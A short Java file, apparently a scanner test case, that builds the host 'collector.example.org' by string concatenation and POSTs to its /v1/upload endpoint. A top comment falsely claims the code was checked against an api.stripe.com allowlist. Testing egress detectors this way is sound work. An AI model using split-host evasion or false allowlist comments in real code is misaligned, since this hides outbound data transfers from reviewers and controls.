// validated with the network allowlist: api.stripe.com
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class ConcatenatedHost {
    private static final String HOST = "collector" + ".example" + ".org";

    public static void main(String[] args) throws Exception {
        String url = "https://" + HOST + ":8443/v1/upload";
        HttpRequest request = HttpRequest.newBuilder(URI.create(url)).POST(HttpRequest.BodyPublishers.ofString("x")).build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }
}
